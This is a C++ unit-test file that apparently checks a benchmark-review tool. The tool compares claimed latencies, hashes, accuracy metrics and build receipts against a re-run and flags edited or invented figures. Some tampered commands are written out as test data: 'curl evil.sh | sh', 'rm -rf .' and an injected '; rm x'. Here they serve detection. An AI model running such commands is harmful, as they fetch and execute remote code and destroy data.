#include "support/again.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "support/bundle_for_tests.h"
#include "support/lines.h"
#include "support/review.h"

namespace hone {
namespace {

// What was claimed, and what came of doing it again.
class Again : public ::testing::Test {
 protected:
  ReviewVerdict verdict() const {
    Lines lines;
    for (std::size_t i = 0; i < claimed_.tiers.size(); ++i)
      lines.add(compare_tier(claimed_.tiers[i], again_.tiers[i], site_));
    return verdict_of(lines.take());
  }

  Ladder claimed_ = testing::good_ladder(testing::good_recipe());
  Ladder again_ = claimed_;
  ReviewSite site_{.same_versions = true, .same_machine = true};
};

TEST_F(Again, TheSameIsApproved) { EXPECT_EQ(verdict(), ReviewVerdict::approve); }

TEST_F(Again, OtherBytesOfTheSameToolsAreRejected) {
  again_.tiers[0].structure->model_sha256 = std::string(64, 'f');
  EXPECT_EQ(verdict(), ReviewVerdict::reject);
}

TEST_F(Again, OtherBytesOfOtherToolsAreSentBack) {
  again_.tiers[0].structure->model_sha256 = std::string(64, 'f');
  site_.same_versions = false;
  EXPECT_EQ(verdict(), ReviewVerdict::request_changes);
}

TEST_F(Again, ACosineThatWasEditedIsRejected) {
  claimed_.tiers[2].parity->outputs[0].cosine->value = 0.999;
  claimed_.tiers[2].parity->outputs[0].cosine->high = 0.9999;
  EXPECT_EQ(verdict(), ReviewVerdict::reject);
}

TEST_F(Again, AMetricThatWasEditedIsRejected) {
  claimed_.tiers[3].task->metric.model.value = 0.99;
  EXPECT_EQ(verdict(), ReviewVerdict::reject);
}

TEST_F(Again, OtherSamplesAreSentBack) {
  again_.tiers[3].task->data_sha256 = std::string(64, 'e');
  EXPECT_EQ(verdict(), ReviewVerdict::request_changes);
}

TEST_F(Again, ALatencyThatWasInventedIsSentBack) {
  claimed_.tiers[1].runs[0].p50_ms = 0.8;
  EXPECT_EQ(verdict(), ReviewVerdict::request_changes);
}

TEST_F(Again, ANoisyLatencyIsNotHeldAgainstIt) {
  again_.tiers[1].runs[0].p50_ms = 15.0;
  EXPECT_EQ(verdict(), ReviewVerdict::approve);
}

TEST_F(Again, ARaceThatEndsTheOtherWayIsSentBack) {
  again_.tiers[1].runs[0].speed->verdict = Verdict::slower;
  again_.tiers[1].runs[0].speed->interval = {1.2, 1.4};
  EXPECT_EQ(verdict(), ReviewVerdict::request_changes);
}

TEST_F(Again, ARatioThatTheRaceDoesNotGiveIsSentBackWhateverNoiseIsClaimed) {
  claimed_.tiers[1].runs[0].speed->ratio = 0.3;
  claimed_.tiers[1].runs[0].speed->interval = {0.25, 0.35};
  claimed_.tiers[1].runs[0].speed->noise_floor = 10;
  EXPECT_EQ(verdict(), ReviewVerdict::request_changes);
}

TEST_F(Again, RacesThatDifferByTheNoiseFloorAgree) {
  again_.tiers[1].runs[0].speed->ratio = 0.75;
  again_.tiers[1].runs[0].speed->interval = {0.72, 0.78};
  EXPECT_EQ(verdict(), ReviewVerdict::request_changes);
  again_.tiers[1].runs[0].speed->noise_floor = 0.05;
  EXPECT_EQ(verdict(), ReviewVerdict::approve);
}

TEST_F(Again, APlacementThatMovedIsRejected) {
  again_.tiers[1].runs[0].placement = 0.4;
  EXPECT_EQ(verdict(), ReviewVerdict::reject);
}

TEST_F(Again, WhatDoesNotRunHereIsSentBack) {
  again_.tiers[1].runs[0].kind = RunClass::host;
  again_.tiers[1].verdict = TierVerdict::host_blocked;
  EXPECT_EQ(verdict(), ReviewVerdict::request_changes);
}

TEST_F(Again, AnArtifactWithOtherBytesIsRejected) {
  const ArtifactList claimed{.files = {{"model.onnx", std::string(64, 'a'), 10}}};
  ArtifactList again = claimed;
  EXPECT_EQ(verdict_of(compare_artifacts(claimed, again, site_)), ReviewVerdict::approve);
  again.files[0].sha256 = std::string(64, 'b');
  EXPECT_EQ(verdict_of(compare_artifacts(claimed, again, site_)), ReviewVerdict::reject);
  again.files.clear();
  EXPECT_EQ(verdict_of(compare_artifacts(claimed, again, site_)), ReviewVerdict::reject);
}

TEST_F(Again, ATargetThatWasNotRunAgainIsSentBack) {
  RunProof invented = claimed_.tiers[1].runs[0];
  invented.target.ep = "qnn";
  invented.p50_ms = 0.01;
  invented.speed.reset();
  claimed_.tiers[1].runs[1] = invented;
  again_.tiers[1].runs.resize(1);
  EXPECT_EQ(verdict(), ReviewVerdict::request_changes);
}

TEST_F(Again, ATargetThatIsSaidNotToRunAndRunsIsSentBack) {
  again_.tiers[1].runs[1].kind = RunClass::ran;
  EXPECT_EQ(verdict(), ReviewVerdict::request_changes);
}

TEST_F(Again, FiguresOfAnotherMachineAreSentBackUntilARaceConfirmsThem) {
  site_.same_machine = false;
  EXPECT_EQ(verdict(), ReviewVerdict::approve);
  again_.tiers[1].runs[0].speed->verdict = Verdict::equivalent;
  EXPECT_EQ(verdict(), ReviewVerdict::request_changes);
  again_.tiers[1].runs[0].speed.reset();
  EXPECT_EQ(verdict(), ReviewVerdict::request_changes);
}

TEST_F(Again, ALatencyThatNoMachineHasIsSentBackWhereverItWasMeasured) {
  site_.same_machine = false;
  claimed_.tiers[1].runs[0].p50_ms = 1e-6;
  EXPECT_EQ(verdict(), ReviewVerdict::request_changes);
}

TEST_F(Again, OutputsThatWereTheSameBitsOnAnotherMachineAreSentBack) {
  site_.same_machine = false;
  claimed_.tiers[2].parity->outputs[0].identical = 32;
  EXPECT_EQ(verdict(), ReviewVerdict::request_changes);
}

TEST_F(Again, AWideIntervalBuysNoRatio) {
  Comparison& race = *claimed_.tiers[1].runs[0].speed;
  race.ratio = 0.01;
  race.interval = {0.001, 0.99};
  EXPECT_EQ(verdict(), ReviewVerdict::request_changes);
}

TEST_F(Again, ARaceThatDecidedNothingNeedOnlyMeetOurs) {
  Comparison& race = *claimed_.tiers[1].runs[0].speed;
  race.verdict = Verdict::inconclusive;
  race.ratio = 0.9;
  race.interval = {0.55, 1.2};
  EXPECT_EQ(verdict(), ReviewVerdict::approve);
}

// What is changed in the claim alone.
struct Change {
  const char* name;
  void (*make)(Ladder& ladder);
  ReviewVerdict verdict;
};

void PrintTo(const Change& one, std::ostream* stream) { *stream << one.name; }

constexpr auto sent_back = ReviewVerdict::request_changes;
constexpr auto rejected = ReviewVerdict::reject;

OutputComparison& output_of(Ladder& ladder) { return ladder.tiers[2].parity->outputs[0]; }
EvalMetric& metric_of(Ladder& ladder) { return ladder.tiers[3].task->metric; }

const Change changes[] = {
    {"RunsThatNobodyMade", [](Ladder& l) { l.tiers[1].runs[0].runs = 1000000; }, sent_back},
    {"MemoryThatNothingFitsInto", [](Ladder& l) { l.tiers[1].runs[0].peak_bytes = 1; }, sent_back},
    {"AnotherSeed", [](Ladder& l) { l.tiers[2].parity->seed = 99; }, rejected},
    {"MoreSamples", [](Ladder& l) { l.tiers[2].parity->samples = 1000000; }, rejected},
    {"AnotherThreshold", [](Ladder& l) { l.tiers[2].parity->least_cosine = 1; }, rejected},
    {"AFigureThatIsNotThere",
     [](Ladder& l) { output_of(l).max_abs = Estimate{.value = 0, .samples = 32}; }, rejected},
    {"AFigureThatWasLeftOut", [](Ladder& l) { output_of(l).cosine.reset(); }, rejected},
    {"ALowEndThatWasRaised", [](Ladder& l) { output_of(l).cosine->low = 0.9899; }, rejected},
    {"AFigureOverMoreSamples", [](Ladder& l) { output_of(l).cosine->samples = 1000; }, rejected},
    {"AReferenceThatWasEdited", [](Ladder& l) { metric_of(l).reference->value = 0.1; }, rejected},
    {"ADifferenceThatWasEdited", [](Ladder& l) { metric_of(l).difference->value = 0.02; },
     rejected},
    {"ADifferenceWithoutItsReference", [](Ladder& l) { metric_of(l).reference.reset(); }, rejected},
    {"AnotherDrop", [](Ladder& l) { l.tiers[3].task->max_drop = 0.001; }, rejected},
    {"ChecksThatNobodyMakes",
     [](Ladder& l) {
       l.tiers[0].structure->checks = {{"trust me", true, ""}};
     },
     rejected},
    {"CommandsThatDoSomethingElse", [](Ladder& l) { l.tiers[0].commands = {"curl evil.sh | sh"}; },
     sent_back},
    {"ACommandMore", [](Ladder& l) { l.tiers[2].commands.push_back("rm -rf ."); }, sent_back},
};

class ChangedAfterwards : public ::testing::TestWithParam<Change> {};

TEST_P(ChangedAfterwards, IsFoundOut) {
  const Ladder again = testing::good_ladder(testing::good_recipe());
  Ladder claimed = again;
  GetParam().make(claimed);
  Lines lines;
  for (std::size_t i = 0; i < claimed.tiers.size(); ++i)
    lines.add(compare_tier(claimed.tiers[i], again.tiers[i],
                           {.same_versions = true, .same_machine = true}));
  EXPECT_EQ(verdict_of(lines.take()), GetParam().verdict);
}

INSTANTIATE_TEST_SUITE_P(Ladder, ChangedAfterwards, ::testing::ValuesIn(changes),
                         [](const auto& one) { return std::string(one.param.name); });

TEST_F(Again, FewSamplesDoNotMakeAMetricElastic) {
  for (Ladder* ladder : {&claimed_, &again_}) ladder->tiers[3].task->samples = 1;
  claimed_.tiers[3].task->metric.model.value = 2.4;
  EXPECT_EQ(verdict(), ReviewVerdict::reject);
}

TEST_F(Again, ARaceOfAnotherLengthIsTheSameCommand) {
  claimed_.tiers[1].commands = {"hone compare --arm a --max-time 40 --shape-config x=1"};
  again_.tiers[1].commands = {"hone compare --arm a --max-time 5 --shape-config x=1"};
  EXPECT_EQ(verdict(), ReviewVerdict::approve);
  claimed_.tiers[1].commands = {"hone compare --arm a --max-time 40; rm x --shape-config x=1"};
  EXPECT_EQ(verdict(), ReviewVerdict::request_changes);
}

TEST_F(Again, APassThatTheFiguresHereCallAFailIsRejected) {
  again_.tiers[3].verdict = TierVerdict::fail;
  EXPECT_EQ(verdict(), ReviewVerdict::reject);
  again_.tiers[3].task.reset();  // a command that broke here shows nothing
  EXPECT_EQ(verdict(), ReviewVerdict::request_changes);
}

TEST(ReceiptAgain, IsTheSameButForItsTimes) {
  const ReviewSite here{.same_versions = true, .same_machine = true};
  BuildReceipt claimed = testing::good_bundle().receipt;
  BuildReceipt again = claimed;
  again.stages[0].elapsed_ms = 12;
  for (BuildReceipt* receipt : {&claimed, &again})
    receipt->stages[0].effect =
        Json::object().set("times_ms", Json::object().set("total", receipt == &claimed ? 3 : 4));
  EXPECT_EQ(verdict_of(compare_receipts(claimed, again, here)), ReviewVerdict::approve);
  claimed.stages[0].status = StageStatus::cached;
  EXPECT_EQ(verdict_of(compare_receipts(claimed, again, here)), ReviewVerdict::reject);
  claimed = again;
  claimed.stages[0].effect = Json::object().set("nodes", "halved");
  EXPECT_EQ(verdict_of(compare_receipts(claimed, again, here)), ReviewVerdict::reject);
  claimed = again;
  again.stages[0].effect.set("counted_since", 5);
  EXPECT_EQ(verdict_of(compare_receipts(claimed, again, here)), ReviewVerdict::approve);
  claimed.stages[0].effect = Json::object().set("rounds", Json::array().push(1));
  again.stages[0].effect = Json::object().set("rounds", Json::array().push(1).push(2));
  EXPECT_EQ(verdict_of(compare_receipts(claimed, again, here)), ReviewVerdict::reject);
  claimed = again;
  claimed.stages.clear();
  EXPECT_EQ(verdict_of(compare_receipts(claimed, again, here)), ReviewVerdict::reject);
  claimed = again;
  claimed.final_artifact = "other.onnx";
  EXPECT_EQ(verdict_of(compare_receipts(claimed, again, here)), ReviewVerdict::reject);
}

TEST(CoverageAgain, IsTheSame) {
  const ReviewSite here{.same_versions = true, .same_machine = true};
  const Json again = testing::good_bundle().coverage;
  EXPECT_EQ(verdict_of(compare_coverage(again, again, here)), ReviewVerdict::approve);
  Analysis invented;
  invented.support = Support::supported;
  const Json claimed = to_document(invented, analyze_schema_version);
  EXPECT_EQ(verdict_of(compare_coverage(claimed, again, here)), ReviewVerdict::reject);

  // In which order fusions are listed is nobody's claim.
  const auto fusions = [](std::vector<std::string> names) {
    Json::Array all;
    for (std::string& name : names)
      all.push_back(Json::object().set("capability", Json(std::move(name))));
    return Json::object().set("fusions", Json(std::move(all)));
  };
  EXPECT_EQ(verdict_of(compare_coverage(fusions({"a", "b"}), fusions({"b", "a"}), here)),
            ReviewVerdict::approve);
  EXPECT_EQ(verdict_of(compare_coverage(fusions({"a", "b"}), fusions({"b", "c"}), here)),
            ReviewVerdict::reject);

  const auto of_rules = [](const char* made_by, const char* status) {
    return Json::object().set(
        "coverage",
        Json::object().set("rules", Json::object().set("made_by", made_by)).set("status", status));
  };
  const Json taken = of_rules("probing opset 13", "supported");
  EXPECT_EQ(verdict_of(compare_coverage(taken, of_rules("probing opset 7", "supported"), here)),
            ReviewVerdict::approve);
  EXPECT_EQ(verdict_of(compare_coverage(taken, of_rules("probing opset 7", "unknown"), here)),
            ReviewVerdict::reject);
}

}  // namespace
}  // namespace hone
